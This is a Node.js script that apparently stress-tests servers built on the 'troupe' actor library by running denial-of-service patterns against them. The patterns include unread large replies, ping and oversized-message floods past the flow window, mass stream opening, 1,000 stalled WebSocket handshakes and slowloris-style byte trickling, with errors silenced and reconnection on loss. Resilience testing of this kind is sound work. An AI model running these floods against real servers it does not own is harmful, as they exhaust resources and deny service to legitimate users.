// node hostile-peer.mjs URL ATTACK SECONDS: harms a server, from a process of its own.
import { connect } from 'node:net'
import process from 'node:process'
import { setTimeout as sleep } from 'node:timers/promises'
import { Dispatcher, ask, tell } from 'troupe'
import { bytes } from 'troupe/adapter'
import { webSocket } from 'troupe/websocket'

const [url, attack, seconds] = process.argv.slice(2)
const end = performance.now() + Number(seconds) * 1_000
const { hostname, port } = new URL(url)
const quiet = () => {}
process.on('unhandledRejection', quiet)
process.on('uncaughtException', quiet)

const PING = 9
const TELL = 4

/** A link that is made as any other, and the channel below it. */
async function intrude() {
  const dispatcher = new Dispatcher({ log: quiet })
  const honest = webSocket(url)
  let channel
  const peer = await dispatcher.connect({
    open: async (...args) => (channel = await honest.open(...args)),
  })
  return { peer, channel, shop: await peer.spawn('Shop') }
}

function send(channel, write) {
  const sink = bytes.sink()
  write(sink)
  channel.send(sink.take().data, [])
}

/** Calls `attempt` until the time is over, with a link that is made anew when it is lost. */
async function repeat(attempt) {
  while (performance.now() < end) {
    try {
      const link = await intrude()
      while (performance.now() < end && !link.channel.isOver) {
        await attempt(link)
        await sleep(1)
      }
    } catch {
      await sleep(20)
    }
  }
}

const dial = () =>
  new Promise((resolve) => {
    const socket = connect({ host: hostname, port })
    socket.on('error', quiet)
    socket.once('connect', () => resolve(socket))
    socket.once('close', () => resolve(socket))
  })

const ATTACKS = {
  // Calls with large replies, and reads none.
  'never reads': () =>
    repeat(async ({ channel, shop }) => {
      channel.pause(true)
      for (let n = 0; n < 500; n++) void shop.big().catch(quiet)
    }),
  pings: () =>
    repeat(async ({ channel }) => {
      channel.pause(true)
      for (let n = 0; n < 2_000 && channel.buffered < 4e6; n++)
        send(channel, (sink) => {
          for (let each = 0; each < 100; each++) {
            sink.number(PING)
            sink.undefined()
          }
        })
    }),
  // One-way messages of 500 kB for an actor that sleeps, whatever the window.
  'one-way': () =>
    repeat(async ({ channel, shop }) => {
      const large = 'x'.repeat(500_000)
      void ask(shop, { timeout: 60_000 }).sleep(60_000).catch(quiet)
      for (let n = 0; n < 20 && channel.buffered < 16e6; n++)
        send(channel, (sink) => {
          sink.number(TELL)
          sink.number(0)
          sink.string('take')
          sink.number(1)
          sink.string(large)
        })
    }),
  // The same, as an honest client does it.
  'one-way, within the window': () =>
    repeat(async ({ shop }) => {
      const large = 'x'.repeat(100_000)
      void ask(shop, { timeout: 60_000 }).sleep(60_000).catch(quiet)
      for (let n = 0; n < 100; n++) tell(shop).take(large)
    }),
  'spawns with large arguments': () =>
    repeat(async ({ peer }) => {
      const large = 'x'.repeat(500_000)
      await Promise.allSettled(Array.from({ length: 50 }, () => peer.spawn('Shop', { args: [large] })))
    }),
  '100,000 streams': () =>
    repeat(async ({ shop }) => {
      const opened = Array.from({ length: 2_000 }, () => shop.count(1e9)[Symbol.asyncIterator]())
      await Promise.allSettled(opened.map((each) => each.next()))
    }),
  '1,024 calls of 1 ms': () =>
    repeat(({ shop }) => Promise.allSettled(Array.from({ length: 1_024 }, () => shop.work(1)))),
  '1,000 stalled handshakes': async () => {
    const upgrade =
      `GET / HTTP/1.1\r\nHost: ${hostname}:${port}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n` +
      'Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n'
    while (performance.now() < end) {
      const sockets = await Promise.all(Array.from({ length: 1_000 }, dial))
      for (const socket of sockets) socket.write(upgrade)
      await Promise.race([
        sleep(end - performance.now()),
        Promise.all(sockets.map((socket) => new Promise((resolve) => socket.once('close', resolve)))),
      ])
      for (const socket of sockets) socket.destroy()
    }
  },
  // A byte at a time, of a request and of frames.
  trickle: () =>
    repeat(async ({ channel }) => {
      const socket = await dial()
      const text = 'GET / HTTP/1.1\r\nHost: x\r\nX-Long: '
      for (let n = 0; n < 1_000 && !socket.destroyed && performance.now() < end; n++) {
        socket.write(text[n] ?? 'x')
        send(channel, (sink) => {
          sink.number(PING)
          sink.undefined()
        })
        await sleep(1)
      }
      socket.destroy()
    }),
}

await ATTACKS[attack]()
process.exit()
